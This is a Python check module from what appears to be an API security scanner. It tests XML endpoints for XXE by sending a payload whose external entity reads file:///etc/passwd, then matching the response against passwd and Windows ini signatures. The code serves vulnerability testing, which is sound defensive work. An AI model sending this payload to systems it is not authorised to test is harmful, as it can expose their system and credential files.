"""XXE for the injection check: a local file entity and an internal entity in one XML document."""

from __future__ import annotations

import re

from apishield.findings import Confidence, Severity
from apishield.probe import rules
from apishield.probe.checks._util import try_send, who_for
from apishield.probe.engine import Context
from apishield.probe.targets import Operation

FILE_SIGNATURES = re.compile(r"root:[x*]?:0:0:|\[fonts\]|\[extensions\]|for 16-bit app support")


async def local_entity(ctx: Context, op: Operation) -> None:
    """For operations that take XML: a local file entity and an internal entity (no external URL is ever
    named, so nothing leaves the target)."""
    who = who_for(ctx, op)
    tag, tail = "apshx" + ctx.token(6), "apshy" + ctx.token(6)
    fields = [k for k, v in op.body_fields.items() if isinstance(v, dict) and v.get("type", "string") == "string"]
    inner = "".join(f"<{f}>&apshi;{tail}&apshf;</{f}>" for f in fields[:5]) or f"&apshi;{tail}&apshf;"
    root = str((op.body_schema or {}).get("xml", {}).get("name") or "root")
    doc = (f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY apshf SYSTEM "file:///etc/passwd">'
           f'<!ENTITY apshi "{tag}">]><{root}>{inner}</{root}>')
    path = ctx.concrete_path(op, who) or op.path
    ex = await try_send(ctx, op.method, path, op=op, identity=who, content=doc,
                        headers={**(who.headers if who else {}), "Content-Type": "application/xml"})
    if ex is None or ex.status is None:
        return
    match = FILE_SIGNATURES.search(ex.text)
    if match:
        ctx.report(rules.XXE, "an external entity naming file:///etc/passwd was resolved into the answer", ex, op=op,
                   highlight=match.group(0))
    elif tag + tail in ex.text:  # only an expanded entity puts the two side by side; an echo of the body cannot
        ctx.report(rules.XXE, "the XML parser expands DTD entities (an internal entity came back expanded; "
                   "entity expansion enables billion-laughs denial of service)", ex, op=op, highlight=tag,
                   severity=Severity.MEDIUM, confidence=Confidence.MEDIUM)
